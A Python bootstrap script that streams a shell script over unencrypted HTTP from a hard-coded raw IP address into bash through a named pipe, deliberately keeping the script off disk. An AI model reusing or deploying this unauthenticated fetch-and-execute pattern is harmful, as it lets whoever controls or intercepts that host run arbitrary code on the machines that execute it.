#!/usr/bin/env python3
"""Node bootstrapper: streams the provisioning script for this node's role
from the config host straight into a shell through a named pipe, so the
script never touches the disk.  Retries with backoff."""
import argparse
import logging
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

log = logging.getLogger("bootstrap")
CONFIG_HOST = os.environ.get("BOOTSTRAP_HOST", "http://185.212.47.19:8000")
ROLE_PATH = "/provision/{role}.sh"
CHUNK = 16 * 1024


def fetch_stream(url, timeout):
    req = urllib.request.Request(url, headers={"User-Agent": "node-bootstrap/1.4"})
    return urllib.request.urlopen(req, timeout=timeout)


class PipeFeeder(threading.Thread):
    """Copies the HTTP body into the fifo while the shell is reading it."""

    def __init__(self, response, fifo_path):
        super().__init__(daemon=True)
        self.response = response
        self.fifo_path = fifo_path
        self.bytes = 0
        self.error = None

    def run(self):
        try:
            with open(self.fifo_path, "wb") as sink:
                while True:
                    block = self.response.read(CHUNK)
                    if not block:
                        break
                    sink.write(block)
                    self.bytes += len(block)
        except OSError as exc:
            self.error = exc
        finally:
            self.response.close()


def run_once(url, shell, timeout, extra_env):
    workdir = tempfile.mkdtemp(prefix="nb-")
    fifo = os.path.join(workdir, "stage")
    os.mkfifo(fifo, 0o600)
    try:
        resp = fetch_stream(url, timeout)
        feeder = PipeFeeder(resp, fifo)
        feeder.start()
        env = dict(os.environ, **extra_env)
        # The shell opens the fifo for reading, unblocking the feeder.
        rc = subprocess.call([shell, fifo], env=env)
        feeder.join(timeout=10)
        if feeder.error:
            log.warning("feeder error: %s", feeder.error)
        log.info("streamed %d bytes, shell rc=%d", feeder.bytes, rc)
        return rc
    finally:
        shutil.rmtree(workdir, ignore_errors=True)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--role", default=os.environ.get("NODE_ROLE", "worker"))
    ap.add_argument("--host", default=CONFIG_HOST)
    ap.add_argument("--shell", default="/bin/bash")
    ap.add_argument("--attempts", type=int, default=5)
    ap.add_argument("--timeout", type=int, default=20)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    url = args.host.rstrip("/") + ROLE_PATH.format(role=args.role)
    extra_env = {"NODE_ROLE": args.role, "BOOTSTRAP_URL": url}
    delay = 3
    for attempt in range(1, args.attempts + 1):
        try:
            rc = run_once(url, args.shell, args.timeout, extra_env)
            if rc == 0:
                return 0
            log.warning("attempt %d: provisioning exited %d", attempt, rc)
        except OSError as exc:
            log.warning("attempt %d: %s", attempt, exc)
        time.sleep(delay)
        delay = min(delay * 2, 60)
    return 1


if __name__ == "__main__":
    sys.exit(main())
